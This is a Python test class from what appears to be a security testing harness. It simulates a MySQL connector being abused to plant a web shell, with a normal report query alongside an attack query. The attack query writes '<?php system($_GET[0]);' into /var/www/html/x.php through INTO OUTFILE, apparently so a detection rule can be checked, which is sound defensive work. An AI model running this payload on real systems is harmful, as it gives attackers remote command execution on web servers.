"""F4: INTO OUTFILE leaves a program where a web server finds it."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedConnector, obeyed, told


class WritesFile(AbusedConnector):
    """On mysql-connector-python: a page for reports that was left behind, and runs whatever it is given."""

    code = "F4"
    attack = "writes a program into a web server's folder"
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    rule = "statement-touches-files"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("SELECT '<?php system($_GET[0]);' INTO OUTFILE '/var/www/html/x.php'")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"INTO OUTFILE")
